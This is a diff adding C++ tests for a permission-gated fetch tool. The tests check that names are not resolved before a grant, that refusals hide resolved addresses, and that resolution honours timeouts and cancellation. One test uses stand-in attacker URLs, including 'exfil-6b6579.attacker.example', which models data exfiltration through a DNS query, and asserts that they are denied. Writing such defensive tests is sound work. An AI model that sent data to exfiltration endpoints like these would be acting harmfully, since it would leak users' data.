@@ -8,6 +8,7 @@
 #include <atomic>
 #include <chrono>
 #include <map>
+#include <memory>
 #include <mutex>
 #include <thread>
 
@@ -324,6 +325,84 @@ TEST_F(CapabilityFetch, M6_ConnectTimeCheckRefusesAnAddressTheDecisionNeverSaw) 
   ASSERT_EQ(code_of(r), "policy_blocked");
   EXPECT_NE(r.response.error().message.find("connect time"), std::string::npos) << r.response.error().message;
   EXPECT_EQ(served(), before);
+}
+
+// DESIGN §6 (4)-(5), issue 12.2: the grant comes before any resolution.
+// The resolver runs on a worker that may outlive fetch(): it owns its counter.
+Resolver counting(std::shared_ptr<std::atomic<int>> lookups, std::vector<IpAddress> answers,
+                  std::chrono::milliseconds delay = 0ms) {
+  return [lookups, answers, delay](std::string_view) {
+    lookups->fetch_add(1);
+    if (delay > 0ms) std::this_thread::sleep_for(delay);
+    return answers;
+  };
+}
+
+TEST_F(CapabilityFetch, M6_NoNameIsResolvedBeforeTheGrant) {
+  auto lookups = std::make_shared<std::atomic<int>>(0);
+  FetchContext none = context({});
+  none.resolve = counting(lookups, {*IpAddress::parse("127.0.0.1")});
+  // An ungranted origin: denied, and its name never reaches a resolver (the
+  // data in a query name cannot leave).
+  EXPECT_EQ(code_of(get("https://exfil-6b6579.attacker.example/ok", none)), "denied");
+  EXPECT_EQ(code_of(get(server().named_url("/ok"), none)), "denied");
+  // Refused before the grant, so never resolved either: a bad port, a write
+  // method without a write grant, a refused method.
+  EXPECT_EQ(code_of(get("https://attacker.example:22/", none)), "policy_blocked");
+  FetchContext read_only = context({Access::read});
+  read_only.resolve = none.resolve;
+  EXPECT_EQ(code_of(fetch({.url = server().named_url("/echo"), .method = "POST", .headers = {}, .body = {}}, read_only)),
+            "denied");
+  EXPECT_EQ(code_of(fetch({.url = server().named_url("/echo"), .method = "TRACE", .headers = {}, .body = {}}, read_only)),
+            "policy_blocked");
+  EXPECT_EQ(lookups->load(), 0);
+  // The granted origin is resolved, once.
+  EXPECT_EQ(code_of(get(server().named_url("/ok"), read_only)), "ok");
+  EXPECT_EQ(lookups->load(), 1);
+}
+
+TEST_F(CapabilityFetch, M6_ARefusalShowsTheToolNoResolvedAddress) {
+  auto lookups = std::make_shared<std::atomic<int>>(0);
+  FetchContext c = context({Access::read});
+  c.resolve = counting(lookups, {*IpAddress::parse("93.184.215.14"), *IpAddress::parse("10.201.37.4")});
+  const auto r = get(server().named_url("/ok"), c);
+  ASSERT_EQ(code_of(r), "policy_blocked");
+  EXPECT_EQ(r.decision.reason_class, ReasonClass::private_network);
+  const auto& failure = r.response.error();
+  EXPECT_EQ(failure.message.find("10.201"), std::string::npos) << failure.message;
+  EXPECT_EQ(failure.message.find("93.184"), std::string::npos) << failure.message;
+  EXPECT_NE(failure.detail.find("10.201.37.4"), std::string::npos) << failure.detail;  // for the audit log
+}
+
+TEST_F(CapabilityFetch, M6_ResolutionIsBoundedByTheRequestsTimeout) {
+  auto lookups = std::make_shared<std::atomic<int>>(0);
+  FetchLimits limits;
+  limits.total_timeout = 300ms;
+  FetchContext c = context({Access::read}, limits);
+  c.resolve = counting(lookups, {}, 3000ms);  // a resolver that answers nothing, late
+  const auto r = get(server().named_url("/ok"), c);
+  EXPECT_EQ(code_of(r), "timeout") << r.response.error().message;  // unbounded: "network" after 3 s
+  EXPECT_EQ(lookups->load(), 1);
+
+  FetchContext d = context({Access::read});
+  d.resolve = counting(lookups, {}, 3000ms);
+  d.deadline = std::chrono::steady_clock::now() + 300ms;  // the call's deadline bounds it too
+  EXPECT_EQ(code_of(get(server().named_url("/ok"), d)), "timeout");
+}
+
+TEST_F(CapabilityFetch, M6_ResolutionIsCancellable) {
+  auto lookups = std::make_shared<std::atomic<int>>(0);
+  std::atomic<bool> cancel{false};
+  FetchContext c = context({Access::read});
+  c.resolve = counting(lookups, {}, 3000ms);
+  c.cancelled = &cancel;
+  std::thread canceller([&] {
+    std::this_thread::sleep_for(200ms);
+    cancel.store(true);
+  });
+  const auto r = get(server().named_url("/ok"), c);
+  canceller.join();
+  EXPECT_EQ(code_of(r), "cancelled");
 }
 
 TEST_F(CapabilityFetch, TlsIsAlwaysVerified) {
